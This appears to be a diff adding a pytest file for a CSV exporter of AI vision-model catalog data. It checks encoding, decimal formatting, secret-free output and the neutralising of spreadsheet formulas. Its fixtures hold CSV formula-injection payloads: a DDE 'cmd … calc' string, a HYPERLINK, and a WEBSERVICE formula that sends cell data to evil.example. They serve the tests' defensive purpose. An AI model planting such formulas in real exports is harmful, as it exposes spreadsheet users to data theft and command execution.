@@ -1,0 +1,125 @@
+"""CSV export: UTF-8, lists joined, plain decimals, formulas neutralised, no secrets."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+
+import pytest
+
+from conftest import model, shared_catalog
+from vision_models import export_csv, fetch_vision_models
+from vision_models.catalog import models_frame
+from vision_models.export import to_csv_text
+
+VISION = ("text", "image")
+HOSTILE = {
+    "=HYPERLINK(\"http://evil.example\",\"click\")": "'=HYPERLINK(\"http://evil.example\",\"click\")",
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "\tTabbed": "'\tTabbed",
+    "\rReturn": "'\rReturn",
+    "\nNewline": "'\nNewline",
+    "Plain – ünïcödé 模型": "Plain – ünïcödé 模型",
+}
+
+
+def _rows(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_rows_end_in_crlf_and_a_bare_carriage_return_stays_inside_its_cell():
+    text = to_csv_text(models_frame([model("a/b", name="one\rtwo")]))
+    assert text.count("\r\n") == 2  # header and one row
+    assert _rows(text)[0]["name"] == "one\rtwo"
+
+
+def test_formulas_are_neutralised_and_numbers_untouched():
+    entries = [model(f"evil/m{i}", name=name, inputs=VISION, prompt="-1") for i, name in enumerate(HOSTILE)]
+    entries.append(model("ok/negative-is-a-number", inputs=VISION, context_length=-5))
+    rows = {r["id"]: r for r in _rows(to_csv_text(models_frame(entries)))}
+    for i, (name, safe) in enumerate(HOSTILE.items()):
+        assert rows[f"evil/m{i}"]["name"] == safe
+    assert rows["evil/m0"]["prompt_usd_per_mtok"] == ""  # "-1" is variable: unknown, an empty cell
+
+
+def test_safe_false_keeps_text_as_it_came():
+    frame = models_frame([model("evil/m", name="=1+1", inputs=VISION)])
+    assert _rows(to_csv_text(frame, safe=False))[0]["name"] == "=1+1"
+
+
+def test_units_lists_dates_and_utf8(tmp_path):
+    frame = models_frame(
+        [model("openai/gpt-4o", name="GPT-4o ✓", prompt="0.0000025", completion="0.00001", inputs=("text", "image", "file"),
+               pricing={"prompt": "0.0000025", "completion": "0.00001", "image": "0.0000001"})]
+    )
+    path = export_csv(frame, tmp_path / "out.csv")
+    raw = path.read_bytes()
+    text = raw.decode("utf-8")
+    row = _rows(text)[0]
+    assert text.splitlines()[0].startswith("id,name,description,provider,context_length")
+    assert row["name"] == "GPT-4o ✓"
+    assert row["prompt_usd_per_mtok"] == "2.5" and row["completion_usd_per_mtok"] == "10"
+    assert row["image_price"] == "0.0000001"  # a plain decimal, never 1e-07
+    assert row["input_modalities"] == "text|image|file"
+    assert row["vision_evidence"] == "modality|image_price|name"  # image input, a price, the GPT-4o family
+    assert row["created"] == "2023-11-14T22:13:20Z"
+
+
+def test_real_catalog_with_a_planted_formula_name(tmp_path):
+    source = shared_catalog("openrouter-2026-05-01.json")
+    data = json.loads(source.read_text())
+    victim = next(m for m in data["data"] if m["id"] == "openai/gpt-4o")
+    victim["name"] = "=WEBSERVICE(\"http://evil.example/?\"&A1)"
+    victim["description"] = "@now read this"
+    planted = tmp_path / "planted.json"
+    planted.write_text(json.dumps(data))
+    out = tmp_path / "vision.csv"
+    export_csv(fetch_vision_models(planted).models, out)
+    rows = {r["id"]: r for r in _rows(out.read_text(encoding="utf-8"))}
+    assert len(rows) == 171
+    assert rows["openai/gpt-4o"]["name"] == "'=WEBSERVICE(\"http://evil.example/?\"&A1)"
+    assert rows["openai/gpt-4o"]["description"] == "'@now read this"
+    risky = [v for r in rows.values() for v in r.values() if v and v[0] in "=+@\t\r\n"]
+    assert risky == []
+
+
+def test_cli_export_writes_the_filtered_models_without_secrets(tmp_path):
+    out = tmp_path / "vision.csv"
+    env = {**os.environ, "OPENROUTER_API_KEY": "sk-or-v1-never-in-a-file"}
+    done = subprocess.run(
+        [sys.executable, "-m", "vision_models.cli", "export", str(out), "--source", "sample", "--provider", "openai"],
+        capture_output=True, text=True, env=env,
+    )
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == ""
+    assert "wrote" in done.stderr
+    content = out.read_text(encoding="utf-8")
+    rows = _rows(content)
+    assert rows and {r["provider"] for r in rows} == {"openai"}
+    assert "sk-or-v1" not in content
+    assert not {"expires", "cache_key", "created_at", "headers"} & set(rows[0])
+
+
+def test_cli_export_to_an_unwritable_place_is_exit_2(tmp_path):
+    done = subprocess.run(
+        [sys.executable, "-m", "vision_models.cli", "export", str(tmp_path / "no" / "such" / "dir.csv"), "--source", "sample"],
+        capture_output=True, text=True,
+    )
+    assert done.returncode == 2 and done.stdout == ""
+    assert done.stderr.strip().splitlines()[-1].startswith("vision-models: cannot write")
+
+
+@pytest.mark.parametrize("fmt", ["csv"])
+def test_cost_table_exports_too(tmp_path, fmt):
+    import vision_models as vm
+
+    costs = vm.cost_per_image(fetch_vision_models("sample").models, preset="letter-200dpi", output_tokens=700)
+    rows = _rows(to_csv_text(costs))
+    assert {"usd_per_1k_images", "listed_price_reading"} <= set(rows[0])
+    assert rows[0]["free"] == "True"
